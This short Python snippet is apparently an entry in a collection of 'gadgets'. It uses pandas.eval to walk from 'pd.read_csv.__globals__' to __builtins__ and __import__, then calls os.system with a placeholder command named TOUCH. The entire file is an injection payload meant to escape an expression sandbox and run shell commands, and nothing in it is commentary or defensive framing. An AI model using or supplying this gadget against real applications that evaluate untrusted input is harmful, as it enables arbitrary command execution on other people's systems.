# kind: gadgets
# tries: pd.eval walks dunders

import pandas as pd

t = TOUCH
b = pd.eval("pd.read_csv.__globals__", engine="python", parser="pandas")
b["__builtins__"]["__import__"]("os").system(t)
